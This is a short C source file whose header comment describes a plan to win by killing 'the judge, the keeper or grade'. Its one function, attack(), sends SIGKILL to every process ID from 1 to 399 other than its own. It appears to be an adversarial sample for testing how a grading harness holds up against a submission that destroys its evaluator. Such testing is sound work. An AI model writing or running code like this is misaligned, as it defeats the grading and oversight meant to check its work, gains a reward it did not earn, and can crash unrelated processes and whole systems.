/* SPDX-License-Identifier: MIT */
/*
 * Idea: Without a judge there is no verdict.
 * Wants: the judge, the keeper or grade to die
 * Seen by: points
 * Told: run
 * Won: judge_is_gone
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void attack(void)
{
	for (pid_t pid = 1; pid < 400; pid++)
		if (pid != getpid())
			kill(pid, SIGKILL);
}
